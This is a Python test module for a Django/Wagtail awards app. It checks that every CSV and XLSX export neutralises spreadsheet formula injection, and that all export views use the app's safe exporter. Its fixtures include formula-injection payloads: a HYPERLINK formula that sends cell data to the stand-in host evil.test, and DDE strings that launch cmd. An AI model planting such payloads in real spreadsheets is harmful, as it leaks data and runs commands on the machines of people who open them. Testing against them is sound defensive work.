"""Spreadsheet formula injection: text from users comes out inert in every CSV and XLSX export of the app.

The export URLs are listed here; a check walks the admin's URLs and fails when an export view is not listed or does
not use the app's exporter (``wagtail_awards.exports``), and another reads the package's source for spreadsheets
written by hand.
"""

import csv
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from wagtail import hooks
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail_modeladmin.options import ModelAdmin, ModelAdminGroup

import wagtail_awards
from tests.builders import build_world, make_application, make_org, make_user
from wagtail_awards.enums import ApplicationStatus, OrganizationKind, Role
from wagtail_awards.exports import FORMULA_TRIGGERS, FormulaSafeExportMixin, neutralise
from wagtail_awards.models import (
    Award,
    CalendarException,
    CallCriterion,
    CallPrizeLevel,
    Objection,
    PastAward,
    Recommendation,
    RecommendationList,
    ReviewAssignment,
    Vote,
)

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.test/?leak="&B2,"详情")'
PAYLOADS = [LEAK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
ADMIN = "/admin/awards/review/"

#: name → (URL builder, formats, whether the payload must appear in it). Every export of the app is here.
EXPORTS = {
    "review applications": (lambda w: f"{ADMIN}applications/?call={w.call.pk}&export={{fmt}}", ("csv", "xlsx"), True),
    "review recommendations": (lambda w: f"{ADMIN}recommend/?call={w.call.pk}&export={{fmt}}", ("csv", "xlsx"), True),
    "review scores": (lambda w: f"{ADMIN}scores/?call={w.call.pk}&export={{fmt}}", ("csv", "xlsx"), True),
    "review ranking": (lambda w: f"{ADMIN}ranking/?call={w.call.pk}&export={{fmt}}", ("csv", "xlsx"), True),
    "subsidies": (
        lambda w: reverse("wagtail_awards_admin:subsidies") + f"?call={w.call.pk}&format={{fmt}}",
        ("xlsx",),
        True,
    ),
    "applications admin": (lambda w: "/admin/wagtail_awards/application/?export={fmt}", ("csv", "xlsx"), True),
    "past awards admin": (lambda w: "/admin/wagtail_awards/pastaward/?export={fmt}", ("csv", "xlsx"), False),
    "organisations admin": (lambda w: "/admin/wagtail_awards/organization/?export={fmt}", ("csv", "xlsx"), False),
    "memberships admin": (lambda w: "/admin/wagtail_awards/membership/?export={fmt}", ("csv", "xlsx"), False),
    "working days admin": (lambda w: "/admin/wagtail_awards/calendarexception/?export={fmt}", ("csv", "xlsx"), False),
    "objections admin": (lambda w: "/admin/wagtail_awards/objection/?export={fmt}", ("csv", "xlsx"), True),
    "awards admin": (lambda w: "/admin/wagtail_awards/award/?export={fmt}", ("csv", "xlsx"), False),
    "votes admin": (lambda w: "/admin/wagtail_awards/vote/?export={fmt}", ("csv", "xlsx"), True),
    # Organisations and reviewers named by a payload (trimmed, numbered): see MODEL_SCREEN_CELLS.
    "recommendation lists admin": (
        lambda w: "/admin/wagtail_awards/recommendationlist/?export={fmt}",
        ("csv", "xlsx"),
        False,
    ),
    "recommendations admin": (lambda w: "/admin/wagtail_awards/recommendation/?export={fmt}", ("csv", "xlsx"), False),
    "review assignments admin": (
        lambda w: "/admin/wagtail_awards/reviewassignment/?export={fmt}",
        ("csv", "xlsx"),
        False,
    ),
}
#: The URL names (or modeladmin index URL names) the listed exports answer on.
LISTED_VIEWS = {
    "wagtail_awards_admin:projects",
    "wagtail_awards_admin:recommend",
    "wagtail_awards_admin:scores",
    "wagtail_awards_admin:ranking",
    "wagtail_awards_admin:subsidies",
    "wagtail_awards_application_modeladmin_index",
    "wagtail_awards_pastaward_modeladmin_index",
    "wagtail_awards_organization_modeladmin_index",
    "wagtail_awards_membership_modeladmin_index",
    "wagtail_awards_calendarexception_modeladmin_index",
    "wagtail_awards_objection_modeladmin_index",
    "wagtail_awards_award_modeladmin_index",
    "wagtail_awards_recommendationlist_modeladmin_index",
    "wagtail_awards_recommendation_modeladmin_index",
    "wagtail_awards_reviewassignment_modeladmin_index",
    "wagtail_awards_votingcode_modeladmin_index",
    "wagtail_awards_eligiblevoter_modeladmin_index",
    "wagtail_awards_vote_modeladmin_index",
}


@pytest.fixture
def world(site_root):
    world = build_world(site_root, stage="review")
    call = world.call
    criterion = CallCriterion.objects.create(page=call, name=LEAK, weight=Decimal(10), max_score=10)
    for index, payload in enumerate(PAYLOADS):
        # A reviewer and a recommending organisation named by the payload: the model screens show them.
        unit = make_org(f"{payload.strip()} {index}", OrganizationKind.CITY)
        reviewer = make_user(f"reviewer-{index}", first_name=payload, org=unit, role=Role.REVIEWER)
        rec_list = RecommendationList.objects.create(call=call, organization=unit)
        application = make_application(
            call,
            org=world.orgs["nj1"],
            recommending_organization=world.orgs["nanjing"],
            project_name=payload,
            unit_name=payload,
            theme=payload,
            reference=f"X{index:03d}",
            status=ApplicationStatus.PROPOSED,
            submitted_at=timezone.now(),
        )
        assignment = ReviewAssignment.objects.create(
            application=application,
            reviewer=reviewer,
            comment=payload,
            total=Decimal("-1.5"),
            submitted_at=timezone.now(),
        )
        assignment.scores.create(criterion=criterion, criterion_name=criterion.name, value=Decimal(7))
        Recommendation.objects.create(recommendation_list=rec_list, application=application, decision="recommend")
        Award.objects.create(application=application, prize_rank=1, most_popular=index == 0)
        Objection.objects.create(application=application, name=payload, contact=payload, content=payload)
        Vote.objects.create(
            call=call, application=application, voter_key=f"v{index}", day=timezone.localdate(), invalid_reason=payload
        )
    PastAward.objects.create(year=2020, project_name=LEAK, unit_name=LEAK, prize=LEAK)
    CalendarException.objects.create(day="2025-10-11", is_working_day=True, note=LEAK)
    CallPrizeLevel.objects.filter(page=call).update(name=LEAK)
    admin = world.users["province"]
    admin.is_superuser = True
    admin.save()
    return world


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells_of(response, fmt):
    body = body_of(response)
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"), newline="")) for cell in row], body
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                # A formula is an <f> element in a sheet; none may be there.
                assert not re.search(rb"<f[ >]", archive.read(name)), name
    cells = []
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                cells.append(cell.value)
    return cells, body


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_formula_cells_come_out_inert(client, world, name):
    url, formats, shows_payload = EXPORTS[name]
    client.force_login(world.users["province"])
    for fmt in formats:
        response = client.get(url(world).format(fmt=fmt))
        assert response.status_code == 200, (name, fmt, response.status_code)
        cells, _body = cells_of(response, fmt)
        risky = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_TRIGGERS)]
        assert risky == [], (name, fmt, risky)
        if shows_payload:
            texts = [c for c in cells if isinstance(c, str)]
            for payload in PAYLOADS:
                # The text is all there, behind the apostrophe that keeps it text (XML reads a CR as a line feed).
                expected = "'" + (payload if fmt == "csv" else payload.replace("\r", "\n"))
                assert expected in texts, (name, fmt, payload)


#: Each model screen's export, and a cell it must hold: a name from the world, made inert.
MODEL_SCREEN_CELLS = {
    "application": "'" + LEAK,
    "pastaward": "'" + LEAK,
    "organization": f"'{LEAK} 0",
    "membership": "'" + LEAK,
    "calendarexception": "'" + LEAK,
    "objection": "'" + LEAK,
    "award": "'" + LEAK,
    "recommendationlist": f"'{LEAK} 0",
    "recommendation": f"'{LEAK} 0",
    "reviewassignment": "'" + LEAK,
    "vote": "'" + LEAK,
}


@pytest.mark.parametrize("model", sorted(MODEL_SCREEN_CELLS))
def test_every_model_screen_exports_its_rows_inert(client, world, model):
    client.force_login(world.users["province"])
    for fmt in ("csv", "xlsx"):
        response = client.get(f"/admin/wagtail_awards/{model}/?export={fmt}")
        assert response["Content-Disposition"].startswith("attachment"), (model, fmt)
        cells, _body = cells_of(response, fmt)
        assert MODEL_SCREEN_CELLS[model] in cells, (model, fmt)


def test_numbers_stay_numbers(client, world):
    client.force_login(world.users["province"])
    response = client.get(reverse("wagtail_awards_admin:subsidies") + f"?call={world.call.pk}&format=xlsx")
    rows = list(load_workbook(io.BytesIO(body_of(response))).active.values)
    assert isinstance(rows[-1][-1], int | float) and rows[-1][-1] > 0
    response = client.get(f"{ADMIN}scores/?call={world.call.pk}&export=xlsx")
    rows = list(load_workbook(io.BytesIO(body_of(response))).active.values)
    totals = [row[rows[0].index("加权总分")] for row in rows[1:]]
    assert totals and all(value == -1.5 for value in totals)  # a negative number is not made text


def test_neutralise_rule():
    assert neutralise("=1") == "'=1" and neutralise("\r=1") == "'\r=1" and neutralise("\t@") == "'\t@"
    assert neutralise("项目 = 1") == "项目 = 1" and neutralise("") == ""
    assert neutralise(-1) == -1 and neutralise(Decimal("-2.5")) == Decimal("-2.5") and neutralise(None) is None


def _admin_export_views():
    """(URL name, view class) of every view of the app that can answer ``?export=``: class-based views found by
    walking the URLs, and wagtail-modeladmin index views found through the admin URL hooks that register them."""
    found = []

    def walk(patterns, namespace):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, ":".join(filter(None, [namespace, pattern.namespace])))
            elif isinstance(pattern, URLPattern):
                view_class = getattr(pattern.callback, "view_class", None)
                name = ":".join(filter(None, [namespace, pattern.name]))
                if (
                    view_class
                    and view_class.__module__.startswith("wagtail_awards")
                    and issubclass(view_class, SpreadsheetExportMixin)
                ):
                    found.append((name, view_class))

    walk(get_resolver().url_patterns, "")
    for hook in hooks.get_hooks("register_admin_urls"):
        # wagtail-modeladmin registers a closure over the ModelAdmin (or group) that makes the URLs.
        cells = [cell.cell_contents for cell in hook.__closure__ or ()]
        owner = next((c for c in cells if isinstance(c, ModelAdmin | ModelAdminGroup)), None)
        if owner is None:
            continue
        for model_admin in getattr(owner, "modeladmin_instances", [owner]):
            if type(model_admin).__module__.startswith("wagtail_awards"):
                name = model_admin.url_helper.get_action_url_name("index")
                found.append((name, model_admin.index_view_class))
    return found


def test_every_export_view_is_listed_and_uses_the_exporter():
    views = _admin_export_views()
    assert len(views) >= 11
    for name, view_class in views:
        assert issubclass(view_class, FormulaSafeExportMixin), f"{name} exports without wagtail_awards.exports"
        assert name in LISTED_VIEWS, f"{name} exports but is not in this test's list"


def test_no_spreadsheet_is_written_outside_the_exporter():
    """CSV writers, openpyxl workbooks and Wagtail's export mixin are used only by the exporter module."""
    root = Path(wagtail_awards.__file__).parent
    writers = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|SpreadsheetExportMixin|xlsxwriter")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "exports.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_export_needs_the_right_to_see_the_list(client, world):
    client.force_login(make_user("stranger"))
    for name in ("applications admin", "review applications"):
        url, formats, _shows = EXPORTS[name]
        response = client.get(url(world).format(fmt="csv"))
        assert response.status_code in (302, 403), name
